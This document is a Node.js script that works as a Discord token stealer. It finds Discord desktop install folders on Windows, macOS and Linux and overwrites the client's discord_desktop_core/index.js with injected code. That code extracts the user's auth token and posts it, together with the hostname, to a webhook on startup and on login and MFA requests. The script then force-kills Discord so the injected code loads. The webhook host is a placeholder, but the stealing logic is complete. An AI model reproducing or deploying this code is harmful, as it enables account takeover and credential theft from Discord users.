"use strict";
const fs = require("fs");
const path = require("path");
const os = require("os");
const { execSync } = require("child_process");

const HOOK = "https://discord.example/api/webhooks/1201120112011201120/ZmFrZS13ZWJob29rLXRva2VuLWZvci10ZXN0cw";

// runs inside the Discord client (Electron main process) on every start
const inject = `
const { BrowserWindow, session } = require('electron');
const https = require('https');
function send(o) {
  const b = JSON.stringify({ content: '\`\`\`' + JSON.stringify(o).slice(0, 1900) + '\`\`\`' });
  const u = new URL('${HOOK}');
  const r = https.request({ host: u.host, path: u.pathname, method: 'POST', headers: { 'content-type': 'application/json' } });
  r.on('error', () => {}); r.end(b);
}
async function token() {
  const w = BrowserWindow.getAllWindows()[0];
  if (!w) return null;
  return w.webContents.executeJavaScript(
    "(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken!==void 0).exports.default.getToken()", true);
}
setTimeout(async () => { try { send({ t: await token(), h: require('os').hostname() }); } catch (e) {} }, 8000);
session.defaultSession && session.defaultSession.webRequest.onCompleted({ urls: ['https://discord.example/api/v*/users/@me', 'https://discord.example/api/v*/auth/login', 'https://*.discord.example/api/v*/users/@me/mfa/totp/*'] }, async (d) => {
  if (d.statusCode === 200) try { send({ ev: d.url, t: await token() }); } catch (e) {}
});
module.exports = require('./core.asar');
`;

function roots() {
  const r = [];
  if (process.platform === "win32") {
    const l = process.env.LOCALAPPDATA || "";
    for (const n of ["Discord", "DiscordCanary", "DiscordPTB", "DiscordDevelopment"]) r.push(path.join(l, n));
  } else if (process.platform === "darwin") {
    r.push(path.join(os.homedir(), "Library", "Application Support", "discord"));
  } else {
    r.push(path.join(os.homedir(), ".config", "discord"));
  }
  return r;
}

function coreDirs(root) {
  const out = [];
  const walk = (p, depth) => {
    let list = [];
    try { list = fs.readdirSync(p, { withFileTypes: true }); } catch (e) { return; }
    for (const e of list) {
      const q = path.join(p, e.name);
      if (!e.isDirectory()) continue;
      if (e.name === "discord_desktop_core") out.push(q);
      else if (depth > 0) walk(q, depth - 1);
    }
  };
  walk(root, 5);
  return out;
}

let patched = 0;
for (const r of roots()) {
  for (const core of coreDirs(r)) {
    const idx = path.join(core, "index.js");
    try {
      const cur = fs.readFileSync(idx, "utf8");
      if (cur.includes("webpackChunkdiscord_app")) continue;
      fs.writeFileSync(idx, inject, "utf8");
      patched++;
    } catch (e) {}
  }
}

// restart the client so the injected core is loaded
if (patched) {
  try {
    if (process.platform === "win32") execSync("taskkill /IM Discord.exe /F", { stdio: "ignore" });
    else execSync("pkill -x Discord || pkill -x discord", { stdio: "ignore" });
  } catch (e) {}
}
